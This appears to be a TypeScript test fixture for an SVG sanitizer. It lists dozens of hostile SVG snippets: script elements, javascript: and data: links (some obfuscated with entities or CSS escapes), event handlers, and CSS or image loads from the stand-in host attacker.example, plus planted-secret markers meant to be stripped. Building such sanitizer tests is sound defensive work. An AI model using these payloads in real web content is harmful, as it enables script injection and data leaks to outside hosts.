/** Things a drawing could do besides drawing, by kind; `//attacker.example` must never be requested. */
export const attacks: Readonly<Record<string, string>> = {
  script: '<script>document.title="run"</script>',
  'a script from elsewhere': '<script href="//attacker.example/x.js"/>',
  'a script with a prefix': '<s:script xmlns:s="http://www.w3.org/2000/svg">document.title="run"</s:script>',
  'a script of HTML': '<script xmlns="http://www.w3.org/1999/xhtml">document.title="run"</script>',
  'a script in metadata': '<metadata><script>document.title="run"</script></metadata>',
  'a frame of HTML': '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.document.title=1"/>',
  'a page in a drawing':
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">Enter your password</body></foreignObject>',
  'an event': '<rect width="9" height="9" onload="document.title=1"/>',
  'an event in capitals': '<rect width="9" height="9" onLoad="document.title=1"/>',
  'an event of an animation': '<animate attributeName="x" dur="1s" onbegin="document.title=1"/>',
  handler: '<handler type="application/ecmascript">document.title=1</handler>',
  'a link that runs': '<a href="javascript:document.title=1"><text y="9">A</text></a>',
  'a link that runs, broken up': '<a href="java&#10;script:document.title=1"><text y="9">A</text></a>',
  'an older link that runs': '<a xmlns:l="http://www.w3.org/1999/xlink" l:href="javascript:document.title=1"/>',
  'a link to data': '<a href="data:text/html,&lt;script>document.title=1&lt;/script>"/>',
  'an animation of an address': '<a><set attributeName="href" to="javascript:document.title=1"/></a>',
  'an animation of an older address':
    '<a><animate attributeName="xlink:href" values="javascript:document.title=1"/></a>',
  'an animation of an event': '<set attributeName="onclick" to="document.title=1"/>',
  'an animation to a paint elsewhere': '<rect><set attributeName="fill" to="url(//attacker.example/x.svg#a)"/></rect>',
  'a picture elsewhere': '<image href="https://attacker.example/x.png" width="9" height="9"/>',
  'a picture of the same site': '<image href="/x.png" width="9" height="9"/>',
  'a drawing in a drawing': '<image href="data:image/svg+xml,&lt;svg/>" width="9" height="9"/>',
  'a picture that is none': '<image href="data:image/png;base64,AAAA" width="9" height="9"/>',
  'a filter of a picture': '<filter id="a"><feImage href="https://attacker.example/x.png"/></filter>',
  'a copy from elsewhere': '<use href="//attacker.example/x.svg#a"/>',
  'a copy of data': '<use href="data:image/svg+xml,&lt;svg id=&quot;a&quot;/>#a"/>',
  'a gradient elsewhere': '<linearGradient href="x.svg#a"/>',
  'a path of text elsewhere': '<text><textPath href="x.svg#a">A</textPath></text>',
  'a paint elsewhere': '<rect fill="url(//attacker.example/x.svg#a)"/>',
  'a mask elsewhere': '<rect mask="url( &quot;x.svg#a&quot; )"/>',
  'a style attribute': '<rect style="fill: red; background: url(//attacker.example/x.png)"/>',
  'a cursor': '<rect style="cursor: url(x.cur), auto"/>',
  'an image set': `<rect style="background-image: image-set('//attacker.example/x.png' 1x)"/>`,
  'a source': `<rect style="fill: src('//attacker.example/x.svg#a')"/>`,
  'a variable': '<rect style="--a: url(//attacker.example/x.svg#a); fill: var(--a)"/>',
  'a sheet that imports': '<style>@import "//attacker.example/x.css";</style>',
  'a sheet that imports by an address': '<style>@import url(//attacker.example/x.css);</style>',
  'a sheet that loads': '<style>rect { fill: url("//attacker.example/x.svg#a") }</style>',
  'a sheet in CDATA': '<style><![CDATA[rect { fill: url(//attacker.example/x.svg#a) }]]></style>',
  'a font elsewhere': '<style>@font-face { font-family: A; src: url(//attacker.example/x.woff2) }</style>',
  'a rule for some widths': '<style>@media all { rect { fill: url(//attacker.example/x.svg#a) } }</style>',
};

/** Content that is dropped silently, because the drawing looks the same without it. */
export const leftOut: Readonly<Record<string, string>> = {
  'a comment': '<!-- PLANTED-SECRET -->',
  metadata: '<metadata><d:creator xmlns:d="http://purl.org/dc/elements/1.1/">PLANTED-SECRET</d:creator></metadata>',
  'notes of an editor':
    '<g xmlns:s="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" s:docname="/home/PLANTED-SECRET/plan.svg"><s:namedview id="PLANTED-SECRET"/></g>',
  'data of a program': '<g data-name="PLANTED-SECRET" xml:base="//attacker.example/PLANTED-SECRET/"/>',
  'statements of RDFa': '<g about="PLANTED-SECRET" property="PLANTED-SECRET" content="PLANTED-SECRET"/>',
  'an instruction to programs': '<?xpacket PLANTED-SECRET?>',
  'text that nobody sees': '<g>PLANTED-SECRET<path d="M0 0h1"/></g>',
  'a link': '<a href="https://attacker.example/PLANTED-SECRET"><path d="M0 0h1"/></a>',
  'a comment in a sheet': '<style>/*! PLANTED-SECRET */ rect { fill: red }</style>',
  'a namespace in a sheet': '<style>@namespace "//attacker.example/PLANTED-SECRET"; rect { fill: red }</style>',
  'an escaped function': '<rect style="fill: \\75 rl(//attacker.example/PLANTED-SECRET)"/>',
  'an escaped rule': '<style>@\\69mport "//attacker.example/PLANTED-SECRET";</style>',
  'a sheet in another language': '<style type="text/less">PLANTED-SECRET</style>',
  'broken CSS': '<style>} rect { fill: PLANTED-SECRET"; </style>',
  'a rule within a rule': '<style>g { rect { fill: url(//attacker.example/PLANTED-SECRET#a) } }</style>',
  'an element of nobody': '<flowRoot>PLANTED-SECRET</flowRoot>',
};

/**
 * A drawing.
 *
 * @param inside Elements, as XML.
 * @param before Text before the drawing.
 */
export function drawing(inside: string, before = ''): string {
  return `${before}<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40" viewBox="0 0 60 40">${inside}</svg>`;
}
